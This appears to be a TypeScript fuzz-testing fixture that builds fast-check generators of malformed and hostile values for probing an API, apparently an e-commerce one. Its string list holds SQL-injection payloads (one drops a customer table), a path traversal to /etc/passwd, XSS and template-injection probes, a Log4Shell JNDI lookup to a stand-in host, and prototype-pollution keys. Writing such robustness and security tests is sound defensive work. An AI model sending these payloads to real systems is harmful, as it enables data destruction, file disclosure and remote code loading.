// Values an outsider sends where the API expects something sensible: wrong types, empty and huge
// strings, NUL bytes, lone surrogates, SQL- and template-looking text, extreme numbers, deep nesting.
import fc from 'fast-check';

export const hostileStrings = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  "' OR 1=1 --",
  "'; drop table customer_entity; --",
  '" OR ""="',
  '%',
  '_%_',
  '\\',
  '\\u0000',
  '%00',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a Log4Shell probe
  '${jndi:ldap://evil.example/x}',
  'javascript:alert(1)',
  '//evil.example/x',
  'null',
  'NaN',
  '-1',
  '1e999',
  '\uD800',
  '\u202Eevil',
  'Ёжик в тумане',
  '🛋️🛋️🛋️',
  'a'.repeat(256),
  'é'.repeat(5_000),
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 10_000, max: 300_000 }).map((n) => 'x'.repeat(n)) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 2_000 }).map((n) => '\u0000'.repeat(n)) },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    0,
    -0,
    -1,
    1,
    2 ** 31,
    -(2 ** 31) - 1,
    Number.MAX_SAFE_INTEGER + 2,
    1e308,
    -1e308,
    0.5,
    1e-320,
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

export const fieldNames = [
  'eq',
  'in',
  'like',
  'match',
  'from',
  'to',
  'sku',
  'uid',
  'url_key',
  'name',
  'email',
  'password',
  'firstname',
  'lastname',
  'cart_id',
  'quantity',
  'category_uid',
  'price',
  'code',
  'id',
  '__proto__',
  'constructor',
];

/** Any JSON value, nested up to a few levels (a shape that rarely matches what was asked for). */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.constantFrom(...fieldNames), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** A JSON value nested `depth` levels deep: `{"a":{"a":…}}` or `[[[…]]]`. */
export function deeplyNested(depth: number, kind: 'object' | 'list'): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i += 1) value = kind === 'object' ? { eq: value } : [value];
  return value;
}
